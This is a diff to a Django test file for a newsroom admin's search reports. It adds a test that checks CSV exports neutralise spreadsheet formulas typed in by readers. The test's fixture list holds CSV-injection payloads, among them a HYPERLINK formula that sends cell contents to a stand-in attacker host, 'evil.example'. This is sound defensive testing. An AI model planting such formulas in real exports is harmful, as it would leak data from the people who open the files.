@@ -1,6 +1,8 @@
 """The editors' search reports in the admin."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from django.contrib.auth.models import Group, Permission
@@ -35,8 +37,28 @@ def test_popular_searches_report(admin_client, terms):
     older = admin_client.get("/admin/search-reports/popular/", {"date_after": "2000-01-01"})
     assert rows(older)[0] == ("old news", 50, 0)
     assert rows(admin_client.get("/admin/search-reports/popular/", {"q": "fuel"})) == [("fuel price", 12, 0)]
-    csv = admin_client.get("/admin/search-reports/popular/", {"export": "csv"})
-    assert b"fuel price,12,0" in csv.getvalue()
+    export = admin_client.get("/admin/search-reports/popular/", {"export": "csv"})
+    assert b'"fuel price",12,0' in export.getvalue()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def test_search_report_csv_defuses_formulas_typed_by_readers(client, django_user_model):
+    """Readers choose the search terms; an editor opening the export must not run them."""
+    today = timezone.localdate()
+    for hits, term in enumerate(FORMULAS, start=1):
+        SearchTermDay.objects.create(date=today, query_string=term, hits=hits, no_result_hits=hits)
+    editor = django_user_model.objects.create_user("desk", password="x")
+    editor.user_permissions.add(*Permission.objects.filter(codename__in=["access_admin", "view_searchtermday"]))
+    client.force_login(editor)
+    for url in ("/admin/search-reports/popular/", "/admin/search-reports/no-results/"):
+        response = client.get(url, {"export": "csv"})
+        assert response.status_code == 200
+        assert response["Content-Type"].startswith("text/csv")
+        rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
+        terms = [row[0] for row in rows[1:]]
+        assert sorted(terms) == sorted("'" + term for term in FORMULAS), url
 
 
 def test_no_result_searches_report(admin_client, terms):
